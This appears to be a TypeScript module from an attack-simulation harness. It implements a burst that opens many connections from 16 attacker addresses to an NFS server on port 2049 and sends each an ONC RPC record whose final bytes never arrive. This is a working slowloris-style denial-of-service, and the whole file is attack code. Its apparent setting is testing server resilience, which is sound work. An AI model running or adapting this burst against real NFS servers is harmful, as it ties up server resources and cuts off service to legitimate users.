import net from 'node:net'
import type { Burst } from '../attack.ts'
import { ATTACKER, SERVER } from '../network.ts'

/** The header of a record of 64 KB (RFC 5531, section 11), and all of it but the last bytes. */
const RECORD = Buffer.alloc(64 << 10)
RECORD.writeUInt32BE((0x8000_0000 | (64 << 10)) >>> 0)

/** Connections of 16 addresses, 120 of each, with most of a call, the rest of which never comes. */
export const halfRecords: Burst = async attack => {
  for (let n = 0; n < 120; n += 2) {
    for (const localAddress of ATTACKER.slice(0, 16)) {
      for (let i = 0; i < 2; i++) {
        const socket = net.connect({ host: SERVER, port: 2049, localAddress })
        socket.on('error', () => {})
        socket.write(RECORD)
      }
    }
    await attack.pause(25)
  }
}
